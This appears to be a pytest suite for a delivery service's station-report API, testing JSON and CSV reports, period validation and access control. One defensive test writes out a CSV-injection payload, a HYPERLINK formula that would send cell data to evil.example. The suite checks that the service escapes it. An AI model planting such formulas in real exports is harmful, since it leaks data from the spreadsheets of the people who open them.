"""Station reports over HTTP: live daily, weekly and monthly reports, issued ones, access."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from models import ServiceClass, StationReport, utcnow
from sync import reports
from sync.shifts import local_date
from tests.conftest import Auth, World
from tests.sync.test_reports import (  # noqa: F401 (uploaded_photo: autouse fixture)
    CONSENT,
    DAY,
    DEADLINES,
    UNSIGNED,
    Pda,
    local,
    move_flags_to,
    parcel,
    uploaded_photo,
)
from tests.sync.test_spreadsheets import json_text


def url(station_id: int, kind: str = "") -> str:
    return f"/api/v1/stations/{station_id}/reports" + (f"/{kind}" if kind else "")


@pytest.fixture
def day(session: Session, world: World) -> None:
    """DAY at ST1: courier1 checks out two parcels, delivers one (31 minutes), loses one."""
    world.courier.full_name = "Zhang Wei"
    pda = Pda(session, world, world.courier, world.device)
    t = local(DAY, 9)
    delivered, lost = (parcel(session, world, t, ServiceClass.ORDINARY) for _ in range(2))
    shift = pda.open(t)
    pda.push(
        [
            pda.event(delivered, "checked_out", t),
            pda.event(lost, "checked_out", t),
            pda.event(delivered, "delivered", t + dt.timedelta(minutes=31), pod=UNSIGNED),
        ],
        t + dt.timedelta(hours=1),
    )
    pda.close(shift, t + dt.timedelta(hours=2))


def get(client: FlaskClient, path: str, headers: dict[str, str], **query: Any) -> Any:
    return client.get(path, query_string=query, headers=headers)


def table(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


# -- live reports -----------------------------------------------------------------------------


def test_daily_report_json(client: FlaskClient, auth: Auth, world: World, day: None) -> None:
    response = get(
        client, url(world.station.id, "daily"), auth.headers("manager1"), date="2026-11-23"
    )
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert (body["station_code"], body["kind"], body["period"], body["complete"]) == (
        "ST1",
        "daily",
        "2026-11-23",
        True,
    )
    totals = body["totals"]
    assert (totals["checked_out"], totals["delivered"], totals["missing"]) == (2, 1, 1)
    assert totals["information_loss_rate"] == 0.5
    assert totals["avg_checkout_to_delivery_minutes"] == 31.0
    assert totals["on_time"]["ordinary"] == {"measured": 1, "on_time": 1, "rate": 1.0}
    assert body["delivery_deadline_hours"] == {
        "express": 24,
        "parcel": 72,
        "registered": 48,
        "ordinary": 96,
    }
    assert [(c["username"], c["full_name"]) for c in body["couriers"]] == [
        ("courier1", "Zhang Wei")
    ]
    assert body["change"]["checked_out"] == 2 and body["previous"]["period"] == "2026-11-22"
    assert dt.datetime.fromisoformat(body["generated_at"]) <= utcnow()


def test_daily_report_csv(client: FlaskClient, auth: Auth, world: World, day: None) -> None:
    response = get(
        client,
        url(world.station.id, "daily"),
        auth.headers("manager1"),
        date="2026-11-23",
        format="csv",
    )
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert (
        response.headers["Content-Disposition"]
        == 'attachment; filename="ST1-daily-2026-11-23.csv"'
    )
    rows = table(response)
    assert [row["scope"] for row in rows] == ["total", "day", "courier", "previous", "change"]
    assert rows[0]["checked_out"] == "2" and rows[0]["information_loss_rate"] == "0.5"
    assert rows[2]["courier_username"] == "courier1"


def test_the_report_csv_writes_each_cell_as_the_json_answers_it(
    client: FlaskClient, auth: Auth, world: World, day: None
) -> None:
    """Every CSV the service writes holds what its JSON says as the JSON writes it (a
    rate, a mean, a null as an empty cell), as the proof export does: a script
    reading both matches them by text (``sync.spreadsheets.csv_cell``)."""
    path, headers = url(world.station.id, "daily"), auth.headers("manager1")
    body = get(client, path, headers, date="2026-11-23").get_json()
    rows = table(get(client, path, headers, date="2026-11-23", format="csv"))
    answered = [
        body["totals"],
        *body["days"],
        *body["couriers"],
        body["previous"]["totals"],
        body["change"],
    ]
    assert [row["scope"] for row in rows] == ["total", "day", "courier", "previous", "change"]
    kinds: set[type] = set()
    for row, metrics in zip(rows, answered, strict=True):
        cells = {
            **{name: metrics[name] for name in reports.SCALAR_METRICS},
            **{
                f"{column}_{service_class}": on_time[part]
                for service_class, on_time in metrics["on_time"].items()
                for part, column in reports.ON_TIME_COLUMNS.items()
            },
        }
        assert {name: row[name] for name in cells} == {
            name: json_text(value) for name, value in cells.items()
        }
        kinds |= {type(value) for value in cells.values()}
    # a null among them (a class's on-time rate with none measured), a float, an integer
    assert kinds == {type(None), float, int}
    assert rows[1]["date"] == body["days"][0]["date"] == "2026-11-23"


def test_the_report_csv_never_hands_a_spreadsheet_a_formula(
    client: FlaskClient, auth: Auth, session: Session, world: World, day: None
) -> None:
    """The monthly report an auditor downloads wrote the couriers' names as they were
    typed: one beginning with `=` opened as a formula (CSV injection), as the proof
    export's text cells never do. The name stays as it is, after an apostrophe a
    spreadsheet does not show."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"Zhang Wei")'
    world.courier.full_name = name
    session.commit()
    response = get(
        client,
        url(world.station.id, "daily"),
        auth.headers("auditor1"),
        date="2026-11-23",
        format="csv",
    )
    assert response.status_code == 200
    (courier,) = (row for row in table(response) if row["scope"] == "courier")
    assert courier["courier_name"] == "'" + name
    assert courier["courier_username"] == "courier1"


def test_weekly_report_json_and_csv(
    client: FlaskClient, auth: Auth, world: World, day: None
) -> None:
    headers = auth.headers("manager1")
    body = get(client, url(world.station.id, "weekly"), headers, week="2026-W48").get_json()
    assert (body["period"], body["period_start"], body["period_end"]) == (
        "2026-W48",
        "2026-11-23",
        "2026-11-29",
    )
    assert [d["checked_out"] for d in body["days"]] == [2, 0, 0, 0, 0, 0, 0]
    assert body["previous"]["period"] == "2026-W47"
    response = get(client, url(world.station.id, "weekly"), headers, week="2026-W48", format="csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'filename="ST1-weekly-2026-W48.csv"' in response.headers["Content-Disposition"]
    scopes = [row["scope"] for row in table(response)]
    assert scopes == ["total", *["day"] * 7, "courier", "previous", "change"]


def test_monthly_report_json_and_csv(
    client: FlaskClient, auth: Auth, world: World, day: None
) -> None:
    headers = auth.headers("admin")
    body = get(client, url(world.station.id, "monthly"), headers, month="2026-11").get_json()
    assert (body["period"], len(body["days"]), body["totals"]["checked_out"]) == (
        "2026-11",
        30,
        2,
    )
    assert body["previous"]["period"] == "2026-10"
    response = get(
        client, url(world.station.id, "monthly"), headers, month="2026-11", format="csv"
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'filename="ST1-monthly-2026-11.csv"' in response.headers["Content-Disposition"]
    assert len(table(response)) == 1 + 30 + 1 + 2


def test_no_report_counts_a_drop_whose_earlier_consent_landed_in_a_later_push(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """Offline all afternoon, the courier captured the recipient's consent on the PDA,
    then left the express parcel in a locker. At 18:00 the queue went up in two pushes,
    the drop's first: the drop was flagged ``unauthorized_locker_drop``, and the flag
    closed when the consent landed a moment later. Pushed in order, nothing is raised;
    so no report counts it, in the totals, the courier's row, the CSV or the week
    (rule 3)."""
    pda = Pda(session, world, world.courier, world.device)
    t = local(DAY, 11)
    express = parcel(session, world, t)
    pda.open(t)
    check_out = pda.event(express, "checked_out", t)
    consent = pda.event(express, "consent_captured", local(DAY, 14), consent=CONSENT)
    drop = pda.event(
        express,
        "delivered_to_locker",
        local(DAY, 14, 1),
        locker_id="L1",
        compartment="1",
        pod={"pickup_code": "1234"},
    )
    pda.push([check_out, drop], local(DAY, 18))
    pda.push([consent], local(DAY, 18, 1))
    move_flags_to(session, local(DAY, 18))
    headers = auth.headers("manager1")
    listed = get(client, "/api/v1/flags", headers, kind="unauthorized_locker_drop").get_json()
    assert [f["status"] for f in listed["items"]] == ["closed"]

    body = get(client, url(world.station.id, "daily"), headers, date=DAY.isoformat()).get_json()
    assert body["totals"]["unattended"] == 1
    assert body["totals"]["flags_by_kind"] == {}
    [row] = body["couriers"]
    assert "unauthorized_locker_drop" not in row["flags_by_kind"]
    csv_table = get(
        client, url(world.station.id, "daily"), headers, date=DAY.isoformat(), format="csv"
    )
    assert "flags_unauthorized_locker_drop" not in table(csv_table)[0]
    week = get(client, url(world.station.id, "weekly"), headers, week="2026-W48").get_json()
    assert "unauthorized_locker_drop" not in week["totals"]["flags_by_kind"]


def test_default_periods_are_the_last_finished_ones(
    client: FlaskClient, auth: Auth, world: World
) -> None:
    headers = auth.headers("auditor1")
    before = local_date(utcnow(), world.station.timezone)
    body = get(client, url(world.station.id, "daily"), headers).get_json()
    after = local_date(utcnow(), world.station.timezone)
    yesterdays = {(d - dt.timedelta(days=1)).isoformat() for d in (before, after)}
    assert body["period"] in yesterdays and body["complete"] is True
    weekly = get(client, url(world.station.id, "weekly"), headers).get_json()
    assert weekly["period"] in {
        reports.last_finished(reports.ReportKind.WEEKLY, d).label for d in (before, after)
    }
    monthly = get(client, url(world.station.id, "monthly"), headers).get_json()
    assert monthly["period"] in {
        reports.last_finished(reports.ReportKind.MONTHLY, d).label for d in (before, after)
    }


@pytest.mark.parametrize(
    ("kind", "query", "field"),
    [
        ("daily", {"date": "2026-11-31"}, "date"),
        ("daily", {"date": "yesterday"}, "date"),
        ("weekly", {"week": "2026-48"}, "week"),
        ("weekly", {"week": "2025-W53"}, "week"),
        ("monthly", {"month": "2026-13"}, "month"),
        ("monthly", {"month": "2026-11-01"}, "month"),
        ("daily", {"format": "xlsx"}, "format"),
        ("weekly", {"week": "9999-W52"}, "week"),  # ends in year 10000
    ],
)
def test_malformed_periods_are_422_naming_the_field(
    client: FlaskClient,
    auth: Auth,
    world: World,
    kind: str,
    query: dict[str, str],
    field: str,
) -> None:
    response = get(client, url(world.station.id, kind), auth.headers("manager1"), **query)
    assert response.status_code == 422
    errors = response.get_json()["errors"]
    assert field in errors.get("query", errors)


def test_a_future_period_is_422(client: FlaskClient, auth: Auth, world: World) -> None:
    headers = auth.headers("manager1")
    future = local_date(utcnow(), world.station.timezone) + dt.timedelta(days=2)
    response = get(client, url(world.station.id, "daily"), headers, date=future.isoformat())
    assert response.status_code == 422
    body = response.get_json()
    assert body["code"] == "period_in_future" and "date" in body["errors"]
    year, week, _ = (future + dt.timedelta(days=7)).isocalendar()
    response = get(client, url(world.station.id, "weekly"), headers, week=f"{year}-W{week:02d}")
    assert response.status_code == 422 and "week" in response.get_json()["errors"]
    today = get(client, url(world.station.id, "daily"), headers, date=future - dt.timedelta(2))
    assert today.status_code == 200 and today.get_json()["complete"] is False
    far = get(client, url(world.station.id, "monthly"), headers, month="9999-12")
    assert far.status_code == 422 and far.get_json()["code"] == "period_in_future"


# -- access -----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["daily", "weekly", "monthly", ""])
def test_who_may_read_a_station_s_reports(
    client: FlaskClient, auth: Auth, world: World, kind: str
) -> None:
    path = url(world.station.id, kind)
    assert get(client, path, auth.headers("manager1")).status_code == 200
    assert get(client, path, auth.headers("auditor1")).status_code == 200
    assert get(client, path, auth.headers("admin")).status_code == 200
    other = get(client, path, auth.headers("manager2"))
    assert (other.status_code, other.get_json()["code"]) == (403, "station_forbidden")
    courier = get(client, path, auth.headers("courier1", "PDA-0001"))
    assert (courier.status_code, courier.get_json()["code"]) == (403, "role_forbidden")
    assert get(client, path, auth.headers("app1")).status_code == 403
    assert client.get(path).status_code == 401
    unknown = get(client, url(999_999, kind), auth.headers("auditor1"))
    assert (unknown.status_code, unknown.get_json()["code"]) == (404, "station_not_found")
    # A manager asking for a station that is not theirs learns nothing of it.
    assert get(client, url(999_999, kind), auth.headers("manager1")).status_code == 403


# -- issued reports ---------------------------------------------------------------------------


@pytest.fixture
def issued(session: Session, world: World, day: None) -> dict[str, Any]:
    for station in (world.station, world.other_station):
        station.created_at = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    result = reports.issue_due_reports(
        session=session, now=local(dt.date(2026, 11, 25), 10), deadlines=DEADLINES
    )
    session.commit()
    return result


def test_issued_reports_are_listed_newest_first_and_paged(
    client: FlaskClient, auth: Auth, world: World, issued: dict[str, Any]
) -> None:
    headers = auth.headers("manager1")
    mine = [i for i in issued["issued"] if i["station_id"] == world.station.id]
    body = get(client, url(world.station.id), headers).get_json()
    assert [item["id"] for item in body["items"]] == [i["id"] for i in reversed(mine)]
    assert body["next_after"] is None
    newest = body["items"][0]
    assert (newest["kind"], newest["period"], newest["period_start"], newest["period_end"]) == (
        "daily",
        "2026-11-24",
        "2026-11-24",
        "2026-11-24",
    )
    weekly = get(client, url(world.station.id), headers, kind="weekly").get_json()["items"]
    assert [(w["period"], w["period_start"], w["period_end"]) for w in weekly] == [
        ("2026-W47", "2026-11-16", "2026-11-22")
    ]
    first = get(client, url(world.station.id), headers, limit=2).get_json()
    assert len(first["items"]) == 2 and first["next_after"] == first["items"][1]["id"]
    rest = get(client, url(world.station.id), headers, after=first["next_after"]).get_json()
    assert [i["id"] for i in first["items"] + rest["items"]] == [i["id"] for i in reversed(mine)]


def test_an_issued_report_is_served_as_stored(
    client: FlaskClient, auth: Auth, world: World, session: Session, issued: dict[str, Any]
) -> None:
    [item] = [
        i
        for i in issued["issued"]
        if i["station_id"] == world.station.id and i["period"] == "2026-11-23"
    ]
    path = f"/api/v1/reports/{item['id']}"
    body = get(client, path, auth.headers("manager1")).get_json()
    assert (body["period"], body["totals"]["checked_out"], body["totals"]["missing"]) == (
        "2026-11-23",
        2,
        1,
    )
    assert body["generated_at"] == "2026-11-25T02:00:00+00:00"
    assert body == session.get(StationReport, item["id"]).body  # nothing lost on the way
    response = get(client, path, auth.headers("auditor1"), format="csv")
    assert response.mimetype == "text/csv"
    assert 'filename="ST1-daily-2026-11-23.csv"' in response.headers["Content-Disposition"]
    assert table(response)[0]["checked_out"] == "2"
    other = get(client, path, auth.headers("manager2"))  # another station's: as unknown
    assert (other.status_code, other.get_json()["code"]) == (404, "report_not_found")
    assert get(client, path, auth.headers("courier1", "PDA-0001")).status_code == 403
    missing = get(client, "/api/v1/reports/999999", auth.headers("auditor1"))
    assert (missing.status_code, missing.get_json()["code"]) == (404, "report_not_found")
